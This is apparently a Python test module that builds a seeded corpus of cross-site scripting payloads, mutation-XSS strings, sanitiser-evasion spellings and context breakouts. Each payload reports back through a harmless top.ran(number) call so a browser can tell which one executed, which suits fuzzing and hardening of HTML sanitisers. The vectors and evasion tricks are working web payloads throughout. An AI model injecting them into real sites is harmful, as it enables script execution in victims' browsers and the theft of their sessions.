"""Markup that tries to run a script: something that runs, where it hides, how it is spelled.

`corpus` makes the same payloads at every call. Each calls `top.ran(number)` if it gets to run, so
a browser can say which one it was. MUTATING are the ways in which harmless-looking markup became
a script in sanitisers: foreign content, raw text within it, tables and forms that are torn apart.
"""

import html
import random
import re
from collections.abc import Callable
from typing import NamedTuple

SEED = 20261126
RUN = "RUN"  # stands for the call until a payload gets its number
PLAIN = 1_500  # texts for a field of one line
MOST_NUMBERS = 99_999

VECTORS = f"""
<script>{RUN}</script>
<script src="data:text/javascript,{RUN}"></script>
<img src=x onerror={RUN}>
<img src=data:, srcset="x 1x" onerror={RUN}>
<image src=x onerror={RUN}>
<picture><source srcset=x><img src=x onerror={RUN}></picture>
<svg onload={RUN}></svg>
<svg><script>{RUN}</script></svg>
<svg><script href="data:text/javascript,{RUN}"></script></svg>
<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:{RUN}"></animate><text y=9>x</text></a></svg>
<svg><a><set attributeName=href to="javascript:{RUN}"></set><text y=9>x</text></a></svg>
<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>
<svg><image href=x onerror={RUN}></image></svg>
<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>
<math href="javascript:{RUN}"><mi>x</mi></math>
<math><mi xlink:href="javascript:{RUN}">x</mi></math>
<iframe srcdoc="<script>{RUN}</script>"></iframe>
<iframe src="javascript:{RUN}"></iframe>
<iframe onload={RUN}></iframe>
<object data="javascript:{RUN}"></object>
<object data="data:text/html,<script>{RUN}</script>"></object>
<embed src="javascript:{RUN}">
<a href="javascript:{RUN}">x</a>
<a href="data:text/html,<script>{RUN}</script>">x</a>
<a href="/x" onclick={RUN}>x</a>
<area href="javascript:{RUN}" shape=default>
<form action="javascript:{RUN}"><button>x</button></form>
<form><button formaction="javascript:{RUN}">x</button></form>
<form><input type=image src=x onerror={RUN}></form>
<input autofocus onfocus={RUN}>
<select autofocus onfocus={RUN}></select>
<textarea autofocus onfocus={RUN}></textarea>
<p tabindex=0 contenteditable onfocus={RUN}>x</p>
<p onmouseover={RUN}>x</p>
<b onpointerenter={RUN}>x</b>
<h2 onclick={RUN}>x</h2>
<td onmouseenter={RUN}>x</td>
<details open ontoggle={RUN}><summary>x</summary></details>
<marquee onstart={RUN}>x</marquee>
<video src=x onerror={RUN}></video>
<video><source onerror={RUN}></video>
<audio src=x onerror={RUN}></audio>
<body onload={RUN}>
<style onload={RUN}></style>
<style>@keyframes k{{from{{top:0}}}}</style><p style="animation:k 1s" onanimationstart={RUN}>x</p>
<link rel=stylesheet href="data:text/css,p" onload={RUN}>
<meta http-equiv=refresh content="0;url=javascript:{RUN}">
<template shadowrootmode=open><img src=x onerror={RUN}></template>
<x-y tabindex=0 onfocus={RUN}>x</x-y>
<dialog open onclick={RUN}>x</dialog>
<use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}></svg>#x">
""".strip().splitlines()

# $ is the payload, % the payload as an attribute value, & the payload as text.
_RAW_TEXT = "style script title textarea xmp iframe noembed noframes noscript plaintext".split()
MUTATING = (
    """
<svg></p><style><a id="</style>%">
<svg><style><img title="</style>%"></style></svg>
<svg><desc><table><thead><s></table></s><p><style><g title="</style>%">
<svg><title><style><img title="</style>%"></style></title></svg>
<svg><foreignObject><math><mi><style><a title="</style>%">
<svg></svg><p><style><a id="</style>%">
<svg><p><style><!--</style>$-->
<svg><![CDATA[><p title="]]>%">]]></svg>
<math></p><style><a id="</style>%">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&">
<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&">
<math><mtext><mglyph><style><a title="</style>%">
<math><mi><mglyph><svg><mtext><style><a title="</style>%">
<math><annotation-xml encoding="text/html"><style>$</style></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><svg><style><a title="</style>%">
<math><ms><style><!--</style>$--></ms></math>
<form><math><mtext></form><form><mglyph><style></math>$
<table><math><select><mi><select><style></math>$
<noscript><p title="</noscript>%"></noscript>
<select><style><option title="</style>%"></style></select>
<select><template><style><!--</style>$--></template></select>
<table><caption><svg><title><table><style><a id="</style>%"></table>
<b><p><b><p><table><a><p title="</a>%"></table>
<template><svg><style></template>$</style></svg>
<rtc><svg><rt><style><a title="</style>%">
""".strip().splitlines()
    + [f'<{raw}><p title="</{raw}>%"></{raw}>' for raw in _RAW_TEXT]
)

CONTEXTS = """
$
<p>$</p>
<p><b>$</p>
<table><tr><td>$</td></tr></table>
<table>$</table>
<ul><li>$</ul>
<a href="/x">$</a>
<a href="/x" title="%">x</a>
<a href="/x" title='">$'>x</a>
<a href="https://x.example/%">x</a>
<td colspan="2%">x</td>
<p "$">x</p>
<p =$ x</p>
<div id="%" name="%" style="%" class="%">x</div>
<!-->$-->
<!--->$-->
<!-- --!>$-->
<!--[if gte IE 4]>$<![endif]-->
<![CDATA[$]]>
<?xml >$?>
<!doctype >$>
</script>$
</title></textarea></style>$
">$
'>$
[[photo:1">$]]
<blockquote><h2>$</h2></blockquote>
&
<font color="red" size=7>$</font>
<listing>&</listing>
""".strip().splitlines()


def _tags(change: Callable[[str], str]) -> Callable[[str], str]:
    """What changes the tags of a text and nothing between them."""
    return lambda text: re.sub("<[^<>]*>", lambda tag: change(tag[0]), text)


def _values(change: Callable[[str], str]) -> Callable[[str], str]:
    return lambda text: re.sub(r"javascript:|data:", lambda found: change(found[0]), text)


SPELLINGS: list[Callable[[str], str]] = [
    lambda text: text,
    _tags(lambda tag: re.sub(r"^</?[\w:-]+|\bon\w+", lambda name: name[0].upper(), tag)),
    _tags(lambda tag: tag.replace(" ", "/")),
    _tags(lambda tag: tag.replace(" ", "\n\t\f")),
    _tags(lambda tag: tag.replace(" ", "\u2028 ", 1)),
    _tags(lambda tag: tag[:2] + "\x00" + tag[2:]),
    _tags(lambda tag: tag[:3] + "\u200b" + tag[3:]),
    _tags(lambda tag: tag[:2] + "\u00ad" + tag[2:]),
    _tags(lambda tag: tag.replace('"', "`")),
    _tags(lambda tag: tag[:-1] + " x" if tag[1] != "/" else tag),
    _tags(lambda tag: "<" + tag),
    _values(lambda name: "".join(f"&#{ord(char)};" for char in name)),
    _values(lambda name: "".join(f"&#x{ord(char):x}" for char in name[:-1]) + "&colon;"),
    _values(lambda name: name[:4] + "&Tab;&NewLine;" + name[4:]),
    _values(lambda name: "\x01 " + name.title()),
    _values(lambda name: name[:2] + "\x00" + name[2:]),
    _values(lambda name: "&#xfeff;" + name),
    lambda text: html.escape(text),
    lambda text: html.escape(html.escape(text)),
    lambda text: text.translate({ord("<"): "\uff1c", ord(">"): "\uff1e"}),
    lambda text: text.removesuffix(">"),
    lambda text: text + "<!--",
]

# Where a plain word breaks out of what it stands in: text, attributes, scripts, JSON, XML, a link.
BREAKOUTS = """
$
">$
'>$
`>$
</title>$
</textarea>$
</script>$
</style>$
</select></option>$
--><!---->$
]]>$
</description></item>$
" autofocus tabindex=0 onfocus=RUN x="
' autofocus tabindex=0 onfocus=RUN x='
" onmouseover=RUN x="
";RUN;//
';RUN;//
`;RUN;//
\\";RUN;//
\\u0022;RUN;//
${RUN}
{{constructor.constructor('RUN')()}}
{{ 7|add:7|safe }}$
javascript:RUN
data:text/html,$
""".strip().splitlines()


class Payload(NamedTuple):
    """One attempt; `number` is what it tells when it runs."""

    number: int
    text: str


def corpus() -> list[Payload]:
    """Every vector in every place, each under one spelling, and every vector under every one."""
    chance = random.Random(SEED)
    made = [
        _placed(place, chance.choice(SPELLINGS)(vector))
        for place in (*CONTEXTS, *MUTATING)
        for vector in VECTORS
    ]
    made += [
        _placed(chance.choice(CONTEXTS[:8]), spelled(vector))
        for spelled in SPELLINGS
        for vector in VECTORS
    ]
    return _numbered(made)


def sample(number: int) -> list[Payload]:
    """So many of the corpus, the same ones each time."""
    return random.Random(SEED).sample(corpus(), number)


def plain(longest: int, first: int = 0) -> list[Payload]:
    """PLAIN texts for fields of one line, none longer than `longest` characters.

    Their numbers begin with `first`: one that is seen, or runs, says which field it came from.
    """
    chance = random.Random(SEED)
    made = [_placed(place, vector) for place in BREAKOUTS for vector in VECTORS]
    made += [html.escape(text) for text in made]
    spelled = [
        _placed(place, change(vector))
        for change in SPELLINGS[1:]
        for place in BREAKOUTS
        for vector in VECTORS
    ]
    chance.shuffle(spelled)
    fitting = [text for text in dict.fromkeys([*made, *spelled]) if _length(text) <= longest]
    return _numbered(fitting[:PLAIN], first)


def _length(text: str) -> int:
    return len(text.replace(RUN, f"top.ran({MOST_NUMBERS})"))


def _placed(place: str, payload: str) -> str:
    named = {"$": payload, "%": payload.replace('"', "'"), "&": html.escape(payload)}
    return re.sub(r"[$%]|&(?![a-z#])", lambda sign: named[sign[0]], place)


def _numbered(texts: list[str], first: int = 0) -> list[Payload]:
    """Without doubles; what runs says its number."""
    return [
        Payload(number, text.replace(RUN, f"top.ran({number})"))
        for number, text in enumerate(dict.fromkeys(texts), first)
    ]
